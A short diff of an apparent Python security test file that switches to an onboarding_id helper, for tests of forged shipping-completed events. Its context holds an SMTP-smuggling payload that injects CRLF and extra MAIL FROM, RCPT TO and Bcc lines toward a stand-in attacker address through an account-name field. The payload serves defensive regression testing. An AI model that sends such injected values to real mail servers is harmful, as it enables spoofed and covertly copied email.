@@ -9,7 +9,7 @@ import re
 import sys
 import uuid
 
-from harness import Namespace, SmtpGate, check, example, http_get, run, wait_for
+from harness import Namespace, SmtpGate, check, example, http_get, onboarding_id, run, wait_for
 
 SMUGGLE = ("Evil Corp\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>\r\nDATA\r\n"
            "Subject: smuggled\r\nBcc: eve@evil.example\r\n\r\nhi\r\n.\r\nQUIT\r\n")
@@ -19,7 +19,7 @@ def shipping_completed(admin_email, account_name):
     """A forged shipping-completed, as any producer on the topic could send today."""
     req = example("virtual-core.json")
     req["customer"]["portal_admin_email"] = admin_email
-    oid = req["request_id"]
+    oid = onboarding_id(req)
     return oid, {"onboarding_id": oid, "onboarding": {
         "onboarding_id": oid, "customer_id": str(uuid.uuid4()), "account_name": account_name, "request": req,
         "warnings": [], "accepted_at": 0}, "allocations": [], "appliances": [], "shipments": [], "completed_at": 0}
